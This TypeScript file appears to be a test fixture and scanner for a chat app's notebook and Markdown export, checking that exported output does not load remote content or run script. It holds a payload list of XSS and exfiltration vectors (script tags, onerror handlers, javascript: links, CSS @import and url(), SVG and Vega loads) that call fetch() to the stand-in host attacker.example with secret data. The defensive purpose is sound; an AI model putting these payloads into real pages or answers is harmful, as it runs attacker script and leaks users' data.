/**
 * Output and answers that would make a notebook or Markdown reader fetch from elsewhere or run
 * code, and a scanner that reads an export as those readers do (jsdom for HTML and SVG, marked
 * for Markdown, JSON.parse for the notebook). One list for the unit test (src/chat/export.test.ts)
 * and the browser test (e2e/exports.spec.ts).
 */
import { JSDOM } from "jsdom";
import { marked } from "marked";

/** Every URL that loads something in the payloads is on this host (reserved: it never resolves). */
export const ATTACKER_HOST = "attacker.example";
const at = (name: string) => `https://${ATTACKER_HOST}/${name}?data=secret`;
/** Links, which load nothing until clicked, may stay. */
export const PLAIN_LINK = `https://${ATTACKER_HOST}/plain-link`;
const PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";

/** What Python shows with `display(bundle, raw=True)`, one display per bundle. */
export const PAYLOAD_BUNDLES: Record<string, string>[] = [
  {
    "text/plain": "html",
    "text/html": [
      "<b>kept bold</b>",
      `<img src="${at("img")}" alt="remote picture">`,
      `<div style="color: green; background: url(${at("style-attr")})">styled</div>`,
      `<style>@import url(${at("import")}); .x { background-image: URL('${at("style-element")}') } p { color: red }</style>`,
      `<p style="background: \\75 rl(${at("escaped-url")})">escaped</p>`,
      `<video poster="${at("poster")}" src="${at("video")}"></video>`,
      `<img srcset="${at("srcset")} 2x">`,
      `<table background="${at("background")}"><tr><td>cell</td></tr></table>`,
      `<div data-source="${at("data-attribute")}">data</div>`,
      `<a href="${PLAIN_LINK}">plain link</a>`,
      `<script>fetch("${at("script")}")</script>`,
      `<img src="x" onerror="fetch('${at("onerror")}')">`,
      `<a href="javascript:fetch('${at("javascript-link")}')">script link</a>`,
      `<link rel="stylesheet" href="${at("link")}">`,
      `<iframe src="${at("iframe")}"></iframe>`,
      `<object data="${at("object")}"></object>`,
      `<svg><image href="${at("svg-in-html")}"/></svg>`,
    ].join(""),
  },
  {
    "text/plain": "svg",
    "image/svg+xml": [
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">',
      `<style>@import "${at("svg-import")}"; circle { fill: url(${at("svg-style-fill")}) }</style>`,
      `<image href="${at("svg-image")}" width="5" height="5"/>`,
      `<image xlink:href="${at("svg-xlink-image")}"/>`,
      `<filter id="f"><feImage href="${at("feimage")}"/></filter>`,
      `<use href="${at("use")}#x"/><use xlink:href="${at("use-xlink")}#x"/>`,
      `<rect width="5" height="5" fill="url(${at("fill-attribute")})" filter="url(#f)"/>`,
      `<circle r="5" onload="fetch('${at("svg-onload")}')"/>`,
      `<script>fetch("${at("svg-script")}")</script>`,
      `<set attributeName="href" to="${at("svg-set")}"/>`,
      `<a href="${PLAIN_LINK}"><text>svg link</text></a>`,
      "</svg>",
    ].join(""),
  },
  {
    "text/plain": "markdown",
    "text/markdown": [
      "# Kept heading",
      `![remote chart](${at("md-image")})`,
      "![referenced chart][pic]",
      `[pic]: ${at("md-reference")}`,
      `<img src="${at("md-html-image")}">`,
      `<script>fetch("${at("md-script")}")</script>`,
      `Inline <span style="background: url(${at("md-inline-style")})">styled</span> text.`,
      `- a list item with ![nested](${at("md-list-image")})`,
      `A [plain Markdown link](${PLAIN_LINK}).`,
    ].join("\n\n"),
  },
  { "text/plain": "vega", "application/vnd.vegalite.v5+json": JSON.stringify({ data: { url: at("vega") }, mark: "point" }) },
  { "application/vnd.vega.v5+json": JSON.stringify({ data: [{ name: "t", url: at("vega-only") }] }) },
  { "text/plain": "a trailing space", "text/html ": `<script>fetch("${at("trailing-space")}")</script><img src="${at("trailing-space-img")}">` },
  { "text/html": "<i>plain twin</i>", " TEXT/HTML": `<img src="${at("twin-img")}" onerror="fetch('${at("twin")}')">` },
  { "text/plain": "javascript", "application/javascript": `fetch("${at("application-javascript")}")` },
  { "text/plain": "widget", "application/vnd.jupyter.widget-view+json": JSON.stringify({ model_id: "m1", version_major: 2 }) },
  { "text/plain": "latex", "text/latex": `$\\style{background: url(${at("latex")})}{x}$` },
  { "text/plain": "png", "image/png": `${PIXEL}" onerror="fetch('${at("png")}')` },
  { "text/plain": "kept png", "image/png": PIXEL },
];

/** The model's own answer: Markdown with remote images and raw HTML that loads and runs. */
export const PAYLOAD_ANSWER = [
  "Here is the analysis.",
  `![chart](${at("answer-image")})`,
  `<img src="${at("answer-html")}" onerror="fetch('${at("answer-onerror")}')">`,
  `<script>fetch("${at("answer-script")}")</script>`,
  `Some <img src="${at("answer-inline")}"> inline, and <sub>kept</sub>.`,
  `See [the source](${PLAIN_LINK}).`,
].join("\n\n");

/** The MIME types a notebook may carry and what each must be (anything else is live or unknown). */
const KNOWN_TYPES = ["text/plain", "text/html", "image/svg+xml", "text/markdown", "text/latex", "application/json", "image/png", "image/jpeg"];

const decodeCss = (css: string) =>
  css.replace(/\\([0-9a-f]{1,6})\s?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16) || 0xfffd)).replace(/\\(.)/g, "$1");

function cssProblems(css: string, where: string): string[] {
  const text = decodeCss(css).toLowerCase();
  const problems: string[] = [];
  if (text.includes("@import")) problems.push(`${where}: CSS @import`);
  for (const match of text.matchAll(/(url|image-set|image)\s*\(\s*['"]?\s*(.?)/g)) {
    if (match[1] !== "url" || match[2] !== "#") problems.push(`${where}: CSS ${match[0]}`);
  }
  return problems;
}

/**
 * What in HTML (or SVG read as HTML, as a notebook page inlines it) would run or load: scripts,
 * event handlers, URLs a reader fetches, CSS `url()` and `@import`, and any mention of the
 * attacker's host outside a link's href and plain text.
 */
export function scanHtml(html: string, where: string): string[] {
  const { document } = new JSDOM(`<!doctype html><body>${html}`).window;
  const problems: string[] = [];
  for (const element of Array.from(document.body.querySelectorAll("*"))) {
    const name = element.localName;
    if (name === "script") problems.push(`${where}: <script>`);
    if (name === "style") problems.push(...cssProblems(element.textContent ?? "", `${where} <style>`));
    for (const attribute of Array.from(element.attributes)) {
      const label = `${where} <${name} ${attribute.name}>`;
      if (attribute.name.startsWith("on")) problems.push(`${label}: event handler`);
      if (attribute.name === "style") problems.push(...cssProblems(attribute.value, label));
      if (/^(?:xlink:)?href$/.test(attribute.name) && (name === "a" || name === "area")) {
        if (!/^(?:https?:|mailto:|#)/i.test(attribute.value.trim())) problems.push(`${label}: not a plain link (${attribute.value})`);
      } else if (/^(?:src|(?:xlink:)?href)$/.test(attribute.name)) {
        if (!/^(?:#|data:)/i.test(attribute.value.trim())) problems.push(`${label}: loads ${attribute.value}`);
      } else if (!["alt", "title"].includes(attribute.name) && attribute.value.includes(ATTACKER_HOST)) {
        problems.push(`${label}: names ${attribute.value}`);
      }
    }
  }
  // Without links' targets and text, nothing may name the host (CSS, attributes of every kind).
  for (const link of Array.from(document.querySelectorAll("a, area"))) link.removeAttribute("href");
  const walker = document.createTreeWalker(document.body, 4 /* NodeFilter.SHOW_TEXT */);
  const texts: Node[] = [];
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node.parentElement?.localName !== "style") texts.push(node);
  }
  for (const text of texts) text.textContent = "";
  if (decodeCss(document.body.innerHTML).includes(ATTACKER_HOST)) problems.push(`${where}: names ${ATTACKER_HOST} outside links and text`);
  return problems;
}

/** Markdown rendered as a reader would (marked, raw HTML kept), then scanned as HTML. */
export function scanMarkdown(markdown: string, where: string): string[] {
  return scanHtml(marked.parse(markdown, { async: false }), where);
}

const joined = (value: unknown) => (Array.isArray(value) ? value.join("") : String(value));

/** Every cell and output of a notebook file as a notebook reader would show it. */
export function scanNotebook(file: string): string[] {
  const notebook = JSON.parse(file) as { cells: { cell_type: string; source: string[]; outputs?: { data?: Record<string, unknown> }[] }[] };
  const problems: string[] = [];
  notebook.cells.forEach((cell, index) => {
    if (cell.cell_type === "markdown") problems.push(...scanMarkdown(cell.source.join(""), `cell ${index + 1}`));
    (cell.outputs ?? []).forEach((output, number) => {
      for (const [mime, value] of Object.entries(output.data ?? {})) {
        const where = `cell ${index + 1} output ${number + 1} ${JSON.stringify(mime)}`;
        const text = joined(value);
        if (!KNOWN_TYPES.includes(mime)) problems.push(`${where}: a type readers may run or fetch for`);
        else if (mime === "text/html" || mime === "image/svg+xml") problems.push(...scanHtml(text, where));
        else if (mime === "text/markdown") problems.push(...scanMarkdown(text, where));
        else if (mime === "text/latex" && text.includes(ATTACKER_HOST)) problems.push(`${where}: names ${ATTACKER_HOST}`);
        else if ((mime === "image/png" || mime === "image/jpeg") && !/^[A-Za-z0-9+/=\s]*$/.test(text)) problems.push(`${where}: not base64`);
      }
    });
  });
  return problems;
}
